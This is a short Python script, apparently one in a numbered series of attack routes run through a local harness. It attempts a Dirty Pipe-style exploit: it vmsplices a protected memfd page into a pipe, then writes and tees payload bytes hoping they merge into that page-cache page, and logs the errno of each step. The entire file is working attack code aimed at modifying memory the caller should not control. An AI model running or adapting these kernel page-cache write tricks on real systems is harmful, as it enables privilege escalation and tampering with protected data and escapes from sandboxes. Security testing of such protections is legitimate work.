"""Route 17: "Dirty Pipe"-style: vmsplice the covered page into a pipe (the pipe then holds the
memfd's own page-cache page), then write() more bytes to the pipe hoping they merge into that page;
also tee/splice it around. Run: python r17_pipe_page.py"""
import ctypes, os
from harness import run_route, en

class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

def attack(t):
    libc, out = t.libc, []
    r, w = os.pipe()
    iov = iovec(t.dst, 100)
    libc.vmsplice.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_uint]
    libc.vmsplice.restype = ctypes.c_long
    for tag, flags in (("vmsplice", 0), ("vmsplice-GIFT", 8)):
        ctypes.set_errno(0)
        n = libc.vmsplice(w, ctypes.byref(iov), 1, flags)
        out.append(f"{tag}:{n if n >= 0 else en(ctypes.get_errno())}")
    try:
        out.append(f"write-merge:{os.write(w, t.payload[:200])}")
    except OSError as e:
        out.append(f"write-merge:{en(e.errno)}")
    r2, w2 = os.pipe()
    try:
        out.append(f"tee:{libc.tee(r, w2, 50, 0)}")
        out.append(f"write-merge2:{os.write(w2, t.payload[:64])}")
    except OSError as e:
        out.append(f"tee:{en(e.errno)}")
    for fd in (r, w, r2, w2):
        os.close(fd)
    return " ".join(out)

if __name__ == "__main__":
    run_route("r17_pipe_page", attack)
